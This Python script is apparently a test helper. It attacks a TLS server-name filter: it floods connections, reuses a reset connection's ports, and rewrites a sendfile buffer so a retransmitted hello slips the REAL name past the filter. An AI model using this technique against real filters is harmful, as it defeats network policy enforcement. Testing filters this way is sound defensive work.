#!/usr/bin/env python3
"""A child's way past a judge that marks a flow by its addresses and ports when it reads the
server's acknowledgement late (the attack on the hello fast path, 2026-12-01). Run as the child,
with hellos naming NAME and DECOY to ADDRESS:PORT let go in the kernel before, and a link that
loses every segment carrying DECOY's hello (the test's drop rule stands in for it):

  1. FLOOD connections each send a hello naming NAME at once: the agent falls behind on its log;
  2. connection A sends one too, waits for the server's acknowledgement (TCP_INFO), and is reset;
  3. connection B, on A's ports, sends a hello naming DECOY with sendfile from a file rewritten
     right after to name REAL (the same length). The kernel lets the decoy go, the link loses it,
     and TCP sends it again from the rewritten file. If A's acknowledgement, read late, made B
     a passed flow, that second sending goes unjudged and the server answers REAL.

  stale-ack.py ADDRESS PORT NAME DECOY REAL FLOOD

Prints one word: served NAME (the server answered, and said which name it saw), reset, closed,
timeout or error:WHY.
"""
import os
import socket
import struct
import sys
import tempfile
import time

from tlsclient import MemoryClient, unacknowledged

address, port, name, decoy, real, flood = sys.argv[1:7]
port, flood = int(port), int(flood)
if len(decoy) != len(real):
    sys.exit("the decoy and the real name must have the same length")
family = socket.AF_INET6 if ":" in address else socket.AF_INET


def connected(local_port=0):
    sock = socket.socket(family, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.bind(("::" if family == socket.AF_INET6 else "0.0.0.0", local_port))
    sock.settimeout(8)
    sock.connect((address, port))
    return sock


named = MemoryClient(name).hello
# 1. The flood: every connection opened first, then every hello sent in one go.
crowd = [connected() for _ in range(flood)]
for sock in crowd:
    sock.send(named)
# 2. A: acknowledged, then reset.
first = connected()
local_port = first.getsockname()[1]
first.send(named)
deadline = time.monotonic() + 2
while unacknowledged(first) and time.monotonic() < deadline:
    time.sleep(0.0002)
first.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
first.close()
# 3. B on A's ports: the decoy from a file, rewritten at once.
sock = connected(local_port)
real_client = MemoryClient(real)
opening = real_client.hello
if opening.count(real.encode()) != 1:
    sys.exit("the real name is not once in the hello")
with tempfile.TemporaryFile() as page:
    page.write(opening.replace(real.encode(), decoy.encode()))
    page.flush()
    sent = os.sendfile(sock.fileno(), page.fileno(), 0, len(opening))
    os.pwrite(page.fileno(), opening, 0)
    if sent != len(opening):
        sys.exit("sent %d of %d bytes" % (sent, len(opening)))
    time.sleep(1.5)  # its sending again goes while the file is open
print(real_client.outcome(sock))
for each in crowd:
    each.close()
